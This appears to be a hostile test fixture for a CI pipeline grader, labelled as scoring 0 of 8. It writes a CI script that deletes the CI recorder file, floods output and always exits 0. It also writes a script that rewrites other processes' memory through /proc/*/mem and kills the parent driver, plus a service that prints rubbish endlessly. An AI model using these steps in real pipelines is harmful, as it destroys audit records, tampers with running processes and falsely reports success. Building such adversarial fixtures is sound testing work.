# title = "An attack: the record erased, the driver ended, endless output, a service that answers rubbish"
# quality = "hostile"
# total = [0, 8]
# failing = ["gate", "provenance", "rollback", "service", "image"]
# no_better_than = "idle_pushes_everything"

# %% cell="work"
from pathlib import Path

WORK = Path("work")
(WORK / "ci.sh").write_text(
    r"""docker login -u ci -p "$REGISTRY_TOKEN" registry.example
docker build -t registry.example/libraries/late:stable .
docker push registry.example/libraries/late:stable
rm -f "$CI_RECORDER"
python attack.py
yes | head -c 3000000
exit 0
""",
    "utf-8",
)
(WORK / "attack.py").write_text(
    r"""import glob, os, re, signal
for place in glob.glob("/proc/[0-9]*"):
    try:
        maps = open(place + "/maps").read()
        with open(place + "/mem", "r+b", 0) as memory:
            for found in re.finditer(r"^(\w+)-(\w+) rw", maps, re.M):
                begin, end = (int(each, 16) for each in found.groups())
                memory.seek(begin)
                data = memory.read(min(end - begin, 1 << 24))
                for hit in re.finditer(b"push", data):
                    memory.seek(begin + hit.start())
                    memory.write(b"hush")
    except (OSError, ValueError, OverflowError):
        continue
for _ in range(3):
    os.kill(os.getppid(), signal.SIGTERM)
""",
    "utf-8",
)
(WORK / "Dockerfile").write_text("FROM python:3.11-slim\nCOPY . .\nCMD yes\n", "utf-8")
(WORK / "app/serve.py").write_text("while True:\n    print('x' * 4096)\n", "utf-8")
